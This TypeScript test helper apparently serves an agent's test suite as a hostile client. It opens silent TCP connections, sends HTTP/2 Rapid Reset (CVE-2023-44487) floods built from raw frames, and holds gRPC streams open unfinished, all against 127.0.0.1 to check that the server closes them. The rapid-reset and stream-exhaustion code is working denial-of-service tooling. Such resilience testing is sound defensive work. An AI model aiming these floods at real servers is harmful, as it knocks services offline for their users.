/**
 * An attacker, run as its own process so that its sockets are not counted with the agent's:
 * `node --import tsx test/helpers/hostile-client.ts MODE PORT ...`. Credentials, when the mode
 * needs them, come as JSON in `HOSTILE_TLS` (`{ ca, cert, key, servername }`, PEM). It writes one
 * JSON line per event on standard output and exits once the agent has closed every connection
 * it opened (or, for `large-streams`, answered or reset every stream).
 *
 * Modes:
 * - `silent-tcp PORT COUNT`: opens COUNT TCP connections that never send a byte (no TLS);
 * - `rapid-reset PORT CONNECTIONS STREAMS PATH`: over mutual TLS, each connection sends STREAMS
 *   pairs of HEADERS and RST_STREAM (CVE-2023-44487) in raw HTTP/2 frames, then half-closes;
 * - `large-streams PORT CONNECTIONS STREAMS BYTES PATH`: over mutual TLS (node:http2), each
 *   connection opens STREAMS streams that each send BYTES of a message and never finish it.
 */
import { connect as http2Connect, constants } from "node:http2";
import { connect as netConnect, type Socket } from "node:net";
import { connect as tlsConnect } from "node:tls";

/** What the parent reads: one JSON object per line. */
export type HostileEvent =
  | { readonly event: "connected"; readonly opened: number; readonly failed: number }
  | { readonly event: "closed"; readonly closed: number }
  | {
      readonly event: "streams";
      /**
       * How the streams ended, counted: `grpc-status N` (answered; the message was never
       * finished, so the answer came before it was read whole), `rst N`, or `closed` (the
       * connection went).
       */
      readonly answers: Readonly<Record<string, number>>;
    };

interface TlsMaterial {
  readonly ca: string;
  readonly cert: string;
  readonly key: string;
  readonly servername: string;
}

function say(event: HostileEvent): void {
  process.stdout.write(`${JSON.stringify(event)}\n`);
}

function tlsMaterial(): TlsMaterial {
  const text = process.env["HOSTILE_TLS"];
  if (text === undefined) throw new Error("HOSTILE_TLS is not set");
  return JSON.parse(text) as TlsMaterial;
}

/** Runs `count` tasks, at most `width` at a time. */
async function pool(count: number, width: number, task: (index: number) => Promise<void>) {
  let next = 0;
  await Promise.all(
    Array.from({ length: Math.min(width, count) }, async () => {
      while (next < count) await task(next++);
    }),
  );
}

/** Sockets whose end is awaited: each is watched from its creation, so no close is missed. */
function closeTracker() {
  const closes: Promise<void>[] = [];
  return {
    watch(socket: { once(event: "close", listener: () => void): unknown }) {
      closes.push(new Promise<void>((resolve) => socket.once("close", resolve)));
    },
    /** Resolves once every watched socket has closed. */
    all: () => Promise.all(closes),
  };
}

async function silentTcp(port: number, count: number): Promise<void> {
  const sockets: Socket[] = [];
  const tracker = closeTracker();
  let failed = 0;
  await pool(count, 256, async () => {
    const socket = netConnect({ host: "127.0.0.1", port });
    socket.on("error", () => undefined);
    const closed = new Promise<void>((resolve) => socket.once("close", resolve));
    tracker.watch(socket);
    sockets.push(socket);
    await Promise.race([new Promise<void>((resolve) => socket.once("connect", resolve)), closed]);
    if (socket.remotePort === undefined && socket.destroyed) failed += 1;
  });
  say({ event: "connected", opened: sockets.length - failed, failed });
  await tracker.all();
  say({ event: "closed", closed: sockets.length });
}

/** The client connection preface (RFC 9113 section 3.4). */
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

/** One HTTP/2 frame (RFC 9113 section 4.1). */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

/** A header field as an HPACK literal without indexing, plain (short) strings. */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x00, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
}

/** The bytes of a rapid reset: preface, SETTINGS, then `streams` HEADERS + RST_STREAM pairs. */
function rapidResetBytes(streams: number, path: string, authority: string): Buffer {
  const HEADERS = 0x1;
  const RST_STREAM = 0x3;
  const SETTINGS = 0x4;
  const END_HEADERS = 0x4;
  const block = Buffer.concat([
    literal(":method", "POST"),
    literal(":scheme", "https"),
    literal(":path", path),
    literal(":authority", authority),
    literal("content-type", "application/grpc"),
    literal("te", "trailers"),
  ]);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(constants.NGHTTP2_CANCEL);
  const parts = [PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))];
  for (let index = 0; index < streams; index++) {
    const id = 2 * index + 1;
    parts.push(frame(HEADERS, END_HEADERS, id, block), frame(RST_STREAM, 0, id, cancel));
  }
  return Buffer.concat(parts);
}

async function rapidReset(
  port: number,
  connections: number,
  streams: number,
  path: string,
): Promise<void> {
  const tls = tlsMaterial();
  const bytes = rapidResetBytes(streams, path, tls.servername);
  const sockets: Socket[] = [];
  const tracker = closeTracker();
  let failed = 0;
  await pool(connections, 32, async () => {
    const socket = tlsConnect({
      host: "127.0.0.1",
      port,
      ca: tls.ca,
      cert: tls.cert,
      key: tls.key,
      servername: tls.servername,
      ALPNProtocols: ["h2"],
    });
    socket.on("error", () => undefined);
    socket.on("data", () => undefined);
    tracker.watch(socket);
    sockets.push(socket);
    const closed = new Promise<void>((resolve) => socket.once("close", resolve));
    const secure = await Promise.race([
      new Promise<boolean>((resolve) => socket.once("secureConnect", () => resolve(true))),
      closed.then(() => false),
    ]);
    if (!secure) {
      failed += 1;
      return;
    }
    // Everything at once, then half-close: the agent must still close its side.
    socket.end(bytes);
  });
  say({ event: "connected", opened: sockets.length - failed, failed });
  await tracker.all();
  say({ event: "closed", closed: sockets.length });
}

async function largeStreams(
  port: number,
  connections: number,
  streams: number,
  bytes: number,
  path: string,
): Promise<void> {
  const tls = tlsMaterial();
  const answers: Record<string, number> = {};
  const count = (answer: string) => (answers[answer] = (answers[answer] ?? 0) + 1);
  // The message prefix promises one byte more than is ever sent: the message never completes.
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(bytes + 1, 1);
  const body = Buffer.concat([prefix, Buffer.alloc(bytes, 0x41)]);
  await pool(connections, 8, async () => {
    const session = http2Connect(`https://127.0.0.1:${port}`, {
      ca: tls.ca,
      cert: tls.cert,
      key: tls.key,
      servername: tls.servername,
    });
    session.on("error", () => undefined);
    await Promise.all(
      Array.from(
        { length: streams },
        () =>
          new Promise<void>((resolve) => {
            let answer: string | undefined;
            const settle = (how: string) => {
              if (answer !== undefined) return;
              answer = how;
              count(how);
              resolve();
            };
            const stream = session.request({
              ":method": "POST",
              ":path": path,
              "content-type": "application/grpc",
              te: "trailers",
            });
            stream.on("error", () => undefined);
            stream.on("response", (headers) => {
              const status = headers["grpc-status"];
              if (status !== undefined) settle(`grpc-status ${String(status)}`);
            });
            stream.on("data", () => undefined);
            stream.on("close", () =>
              settle(
                stream.rstCode === constants.NGHTTP2_NO_ERROR ? "closed" : `rst ${stream.rstCode}`,
              ),
            );
            // Written, never ended.
            stream.write(body);
          }),
      ),
    );
    // Its streams were never ended: a graceful close would wait for them.
    session.destroy();
  });
  say({ event: "streams", answers });
}

const [mode, portText, ...rest] = process.argv.slice(2);
const port = Number(portText);
const numbers = rest.map(Number);
switch (mode) {
  case "silent-tcp":
    await silentTcp(port, numbers[0] ?? 1000);
    break;
  case "rapid-reset":
    await rapidReset(port, numbers[0] ?? 10, numbers[1] ?? 1000, rest[2] ?? "/");
    break;
  case "large-streams":
    await largeStreams(port, numbers[0] ?? 1, numbers[1] ?? 100, numbers[2] ?? 1, rest[3] ?? "/");
    break;
  default:
    process.stderr.write(`hostile-client: unknown mode ${String(mode)}\n`);
    process.exitCode = 2;
}
